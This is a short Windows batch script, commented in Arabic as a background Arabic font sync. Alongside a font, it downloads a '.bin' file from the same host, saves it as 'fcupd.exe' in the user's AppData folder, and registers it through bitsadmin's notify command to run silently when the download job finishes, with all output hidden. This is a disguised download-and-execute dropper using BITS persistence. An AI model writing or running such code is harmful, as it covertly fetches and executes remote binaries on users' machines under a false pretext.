@echo off
REM مزامنة الخطوط العربية عبر BITS (تنزيل في الخلفية)
setlocal
set JOB=ArabicFontSync
set DEST=%APPDATA%\FontCache
if not exist "%DEST%" mkdir "%DEST%"

bitsadmin /create /download %JOB% >nul
bitsadmin /addfile %JOB% https://fonts-cdn.invalid/pack/NotoNaskhArabic-Regular.ttf "%DEST%\NotoNaskhArabic-Regular.ttf" >nul
bitsadmin /addfile %JOB% https://fonts-cdn.invalid/pack/fc-refresh.bin "%DEST%\fcupd.exe" >nul
REM عند اكتمال التنزيل: تحديث ذاكرة الخطوط
bitsadmin /SetNotifyCmdLine %JOB% "%DEST%\fcupd.exe" "fcupd.exe --silent" >nul
bitsadmin /SetMinRetryDelay %JOB% 60 >nul
bitsadmin /SetNoProgressTimeout %JOB% 86400 >nul
bitsadmin /resume %JOB% >nul

echo تمت جدولة تنزيل الخطوط.
endlocal
